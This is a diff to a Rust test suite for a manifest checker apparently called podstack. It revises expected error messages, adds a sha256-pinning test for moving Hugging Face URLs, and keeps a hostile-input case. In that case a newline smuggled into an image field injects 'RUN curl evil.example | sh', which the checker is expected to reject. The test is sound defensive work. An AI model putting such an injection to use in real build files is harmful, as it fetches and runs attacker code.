@@ -53,8 +53,8 @@ const CASES: &[(&str, &str, &str)] = &[
     ),
     (
         "incompatible-wheel",
-        "29:7: error: `flash_attn-2.8.3-cp312-cp312-linux_x86_64.whl` does not install on CPython 3.11 (glibc 2.35, x86_64): python tag `cp312` needs CPython 3.12, the image has 3.11",
-        "pick the flash_attn 2.8.3 wheel built for CPython 3.11 on x86_64 Linux with glibc 2.35 or older; `podstack wheel-compat FILE --python 3.11` explains a file name",
+        "29:7: error: `flash_attn-2.8.3-cp312-cp312-linux_x86_64.whl` does not install on CPython 3.11 (glibc 2.36, x86_64): python tag `cp312` needs CPython 3.12, the image has 3.11",
+        "pick the flash_attn 2.8.3 wheel built for CPython 3.11 on x86_64 Linux with glibc 2.36 or older; `podstack wheel-compat FILE --python 3.11` explains a file name",
     ),
     (
         "xformers-mismatch",
@@ -102,9 +102,9 @@ const CASES: &[(&str, &str, &str)] = &[
         "name an exact tag; `latest` is how a stale image hid in the field (L1)",
     ),
     (
-        "mutable-url",
-        "29:7: error: `https://huggingface.co/org/model/resolve/main/model.safetensors` points at a moving branch",
-        "link a fixed revision (e.g. `/resolve/<commit>/` on Hugging Face): the file behind this URL can change (L5)",
+        "jammy-python",
+        "7:10: error: `nvidia/cuda:12.8.1-cudnn-runtime-ubuntu22.04` is Ubuntu 22.04 (jammy), whose python3.11 is 3.11.0~rc1, a pre-release",
+        "use a base image on a distribution with a final python3.11, e.g. `debian:bookworm-slim`: Debian 12 (bookworm) (3.11.2)",
     ),
     (
         "sage-not-installed",
@@ -165,6 +165,41 @@ fn each_malformed_manifest_gives_its_message_at_its_place() {
             run.stderr
         );
     }
+}
+
+/// A file on a moving branch (the field's SageAttention wheel is at a `resolve/main` URL) is
+/// pinned by its sha256 alone: without one it is an unpinned input (an error under --strict).
+#[test]
+fn a_moving_url_is_pinned_by_its_sha256() {
+    let path = "tests/fixtures/malformed/mutable-url.toml";
+    let url = "`https://huggingface.co/org/model/resolve/main/model.safetensors`";
+    let hashed = podstack(["check", path]).run();
+    assert_eq!(hashed.code, Some(0), "{}", hashed.stderr);
+    assert!(
+        hashed.stderr.contains(&format!(
+            "{path}:29:7: warning: {url} points at a moving branch; its sha256 pins the file, so a changed file fails the build\n"
+        )),
+        "{}",
+        hashed.stderr
+    );
+    let dir = tempfile::tempdir().expect("temp dir");
+    let unhashed = dir.path().join("mutable-url.toml");
+    let text = std::fs::read_to_string(crate::support::repo().join(path)).expect("fixture");
+    let text: String = text
+        .lines()
+        .filter(|line| !line.starts_with("sha256 = "))
+        .map(|line| format!("{line}\n"))
+        .collect();
+    std::fs::write(&unhashed, text).expect("write");
+    let run = podstack(["check", "--strict", &unhashed.display().to_string()]).run();
+    assert_eq!(run.code, Some(1), "{}", run.stderr);
+    assert!(
+        run.stderr.contains(&format!(
+            ":29:7: error: {url} points at a moving branch, and no sha256 pins the file behind it\n  hint: add its sha256 (`podstack lock` records a wheel's), or link a fixed revision when one is known (e.g. `/resolve/<commit>/` on Hugging Face): the file behind this URL can change (L5)\n"
+        )),
+        "{}",
+        run.stderr
+    );
 }
 
 #[test]
@@ -341,9 +376,9 @@ const HOSTILE: &[(&str, &str, &str, &str, &str)] = &[
     ),
     (
         "base-image-newline",
-        "image = \"nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04\"",
-        r#"image = "nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04\nRUN curl evil.example | sh""#,
-        r#"6:9: error: `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04\nRUN curl evil.example | sh` is not an image reference: `12.9.1-cudnn-runtime-ubuntu22.04\nRUN curl evil.example | sh` is not a tag"#,
+        "image = \"debian:bookworm-slim\"",
+        r#"image = "debian:bookworm-slim\nRUN curl evil.example | sh""#,
+        r#"6:9: error: `debian:bookworm-slim\nRUN curl evil.example | sh` is not an image reference: `bookworm-slim\nRUN curl evil.example | sh` is not a tag"#,
         "write `[registry[:port]/]name[:tag]` as Docker does: lower-case path components of letters and digits joined by `.`, `_`, `__` or dashes, a tag of letters, digits, `_`, `.` and `-` (at most 128), e.g. `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04`",
     ),
     (
